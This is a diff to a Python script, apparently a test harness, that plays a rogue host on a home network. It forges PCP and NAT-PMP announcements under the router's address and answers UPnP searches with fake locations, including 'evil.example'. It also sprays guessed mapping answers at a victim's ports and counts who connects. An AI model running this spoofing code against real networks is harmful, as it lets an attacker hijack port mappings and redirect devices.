@@ -1,8 +1,10 @@
 """A host of the home network that lies: run it there with its own address, the router's and the victim's.
 
 It announces restarts and new addresses (PCP, NAT-PMP) from its own address and under the router's, answers
-searches for a router with its own description, sprays answers to MAP requests over the ports that clients use, and
-counts who asks its web server. A line of JSON with the count comes at the end.
+searches for a router with its own description and with dead places on the router, sprays answers to MAP requests over
+the ports that clients use, and counts who asks its web server. Answers of NAT-PMP come from its own address alone: the
+protocol has no nonce, and one under the router's name that meets the port of a pending request is as good as true
+(RFC 6886 §9). A line of JSON with the counts comes at the end.
 """
 import json
 import socket
@@ -52,9 +54,10 @@ def answer_searches():
             continue
         if asker[0] == own or not data.startswith(b"M-SEARCH"):
             continue
-        for host in (own, "evil.example", router + "@" + own):
+        dead = [f"{router}:{8000 + number}" for number in range(16)]
+        for host in (*dead, own + ":8000", "evil.example:8000", f"{router}@{own}:8000"):
             answer = (
-                f"HTTP/1.1 200 OK\r\nLOCATION: http://{host}:8000/root.xml\r\n"
+                f"HTTP/1.1 200 OK\r\nLOCATION: http://{host}/root.xml\r\n"
                 "ST: urn:schemas-upnp-org:device:InternetGatewayDevice:1\r\nUSN: uuid:x\r\nEXT:\r\n\r\n"
             ).encode()
             heard.sendto(answer, asker)
@@ -79,7 +82,8 @@ def serve_pages():
 raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
 mine = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
 mine.bind((own, 5351))
-mine.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
+for sender in (mine, raw):
+    sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
 threads = [threading.Thread(target=answer_searches), threading.Thread(target=serve_pages)]
 for thread in threads:
     thread.start()
@@ -87,9 +91,10 @@ print("ready", flush=True)
 port = 32768
 while time.monotonic() < ends:
     for payload in (pcp_announce, natpmp_notice):
-        mine.sendto(payload, ("224.0.0.1", 5350))
-        mine.sendto(payload, (victim, 5350))
-        sent += 2
+        for to in ("224.0.0.1", victim):
+            mine.sendto(payload, (to, 5350))
+            udp_from(router, 5351, payload, (to, 5350))
+            sent += 2
     for _ in range(200):
         # Whose nonce and port nobody told us: by chance alone.
         mine.sendto(map_answer, (victim, port))
